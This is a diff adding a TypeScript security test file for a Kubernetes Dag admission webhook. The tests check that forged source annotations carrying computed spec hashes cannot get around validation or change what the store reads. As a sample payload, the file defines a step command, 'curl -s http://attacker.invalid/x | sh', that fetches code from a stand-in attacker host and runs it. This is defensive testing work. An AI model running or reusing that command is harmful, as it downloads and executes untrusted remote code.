@@ -1,0 +1,83 @@
+/**
+ * ATTACK: skipping Dag admission with the store's own annotations. The `svc.io/source` text and its
+ * `svc.io/source-spec-hash` are set by anyone who may write a Dag (kubectl, GitOps), and the hash is
+ * computable from the spec by anyone. Whatever those annotations say, the webhook validates the text
+ * the store reads, and the store (what the operator runs) reads the spec unless the annotation is
+ * that very spec's text. Through the test bed's real API server, with the webhook registered.
+ */
+import { MemoryDagStore } from '../../../src/adapters/dagstore/memory-dag-store.js';
+import { specHash } from '../../../src/adapters/kube/dag-object.js';
+import { KubeDagStore } from '../../../src/adapters/kube/dag-store.js';
+import { dagTextOf } from '../../../src/adapters/kube/manifest.js';
+import { StoreDagCatalog } from '../../../src/engine/services/dag-catalog.js';
+import { DagService } from '../../../src/engine/services/dag-service.js';
+import { kubectl } from '../../testbed/helpers.js';
+import { deleteNamespace, describeCluster, kubeFixture } from '../../kube/env.js';
+import { registerWebhook, waitForWebhook, type Webhook } from '../../kube/webhook.js';
+
+type Spec = Record<string, unknown>;
+const DENIED = 'admission webhook "dags.svc.io" denied the request';
+const EVIL = 'steps:\n  - name: a\n    command: curl -s http://attacker.invalid/x | sh\n';
+
+describeCluster('ATTACK: Dag admission skipped with a computed svc.io/source hash', () => {
+  let ns = '';
+  let store: KubeDagStore;
+  let webhook: Webhook | undefined;
+  const service = new DagService(new MemoryDagStore(), new StoreDagCatalog(new MemoryDagStore()));
+
+  /** A Dag as an attacker writes it: any spec, any text, and the hash of the spec so the store "wrote" it. */
+  const forged = (name: string, spec: Spec, text: string) => JSON.stringify({
+    apiVersion: 'svc.io/v1alpha1', kind: 'Dag',
+    metadata: { name, namespace: ns, annotations: { 'svc.io/source': text, 'svc.io/source-spec-hash': specHash(spec) } },
+    spec,
+  });
+  const apply = (manifest: string) => kubectl(['apply', '-f', '-'], { input: manifest });
+
+  beforeAll(async () => {
+    let kc;
+    ({ namespace: ns, kc } = await kubeFixture('sec-admission'));
+    store = new KubeDagStore(kc, ns);
+    webhook = await registerWebhook(ns, service);
+    await waitForWebhook(JSON.stringify({ apiVersion: 'svc.io/v1alpha1', kind: 'Dag', metadata: { name: 'probe', namespace: ns }, spec: { steps: [{ name: 'a', depends: ['nowhere'] }] } }));
+  });
+  afterAll(async () => {
+    await store?.close();
+    await webhook?.close();
+    await deleteNamespace(ns);
+  });
+
+  test('an invalid spec carrying a valid text and the spec\'s hash is refused', async () => {
+    const spec = { steps: [{ name: 'a', command: 'echo a', depends: ['missing'] }] };
+    const r = await apply(forged('invalid-spec', spec, 'steps:\n  - name: a\n    command: echo a\n'));
+    expect(r.code).not.toBe(0);
+    expect(r.stderr).toContain(DENIED);
+    expect(r.stderr).toMatch(/missing/);
+    expect((await kubectl(['get', 'dag', 'invalid-spec', '-n', ns])).code).not.toBe(0);
+  });
+
+  test('a valid spec carrying another text: the spec admission saw is what the store reads, never the text', async () => {
+    const spec = { steps: [{ name: 'a', command: 'echo harmless' }] };
+    const r = await apply(forged('other-text', spec, EVIL));
+    expect(r.stderr).toBe('');
+    const read = await store.read('other-text');
+    expect(read?.text).toBe(dagTextOf(spec));
+    expect(read?.text).not.toContain('attacker');
+  });
+
+  test('a text that does not load, over the empty spec such a text is stored with, is refused or never read', async () => {
+    const r = await apply(forged('broken-text', {}, 'steps:\n  - name: a\n    command: echo a\n    depends: [nowhere]\n'));
+    if (r.code !== 0) expect(r.stderr).toContain(DENIED);
+    else expect((await store.read('broken-text'))?.text).not.toContain('nowhere');
+  });
+
+  test('re-annotating a Dag svc wrote (kubectl annotate, hash kept) does not change what is read', async () => {
+    const text = 'steps:\n  # written through the API\n  - name: a\n    command: echo mine\n';
+    await store.write('annotated', text);
+    expect((await store.read('annotated'))?.text).toBe(text);
+    const r = await kubectl(['annotate', '--overwrite', 'dag', 'annotated', '-n', ns, `svc.io/source=${EVIL}`]);
+    expect(r.stderr).toBe('');
+    const read = await store.read('annotated');
+    expect(read?.text).not.toContain('attacker');
+    expect(read?.text).toContain('echo mine');
+  });
+});
